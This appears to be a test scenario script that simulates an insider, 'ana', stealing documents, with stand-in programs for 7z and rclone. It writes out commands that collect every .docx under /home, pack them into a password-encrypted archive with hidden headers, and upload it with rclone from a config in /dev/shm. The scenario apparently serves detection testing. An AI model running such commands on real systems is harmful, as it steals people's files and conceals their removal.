# ana gathers documents, packs them with a password and copies them to a store of her own (harmless programs stand for 7z, rclone).
prepare() { stand_in 7z rclone; }
act() {
    as_ana find /home -name '*.docx' -exec cp {} /home/ana/out ';'
    as_ana 7z a -pSecret -mhe=on /home/ana/out.7z /home/ana/out
    as_ana rclone --config /dev/shm/r.conf copy /home/ana/out.7z remote:box
}
